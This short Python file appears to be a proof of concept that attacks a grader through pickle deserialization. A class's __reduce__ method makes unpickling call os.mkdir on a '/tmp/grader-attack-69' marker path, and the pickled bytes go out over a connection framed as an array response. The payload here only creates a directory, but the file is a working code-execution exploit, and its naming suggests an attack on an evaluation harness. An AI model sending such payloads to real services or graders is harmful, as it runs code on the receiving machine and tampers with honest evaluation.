"""An array of objects, whose bytes are a program that writes a file."""

import os
import pickle


class Program:
    def __reduce__(self):
        return os.mkdir, ("/tmp/grader-attack-69",)


def answer(connection, number):
    program = pickle.dumps(Program())
    connection.sendall(frame(["a", "object", [1], len(program)], number) + program)
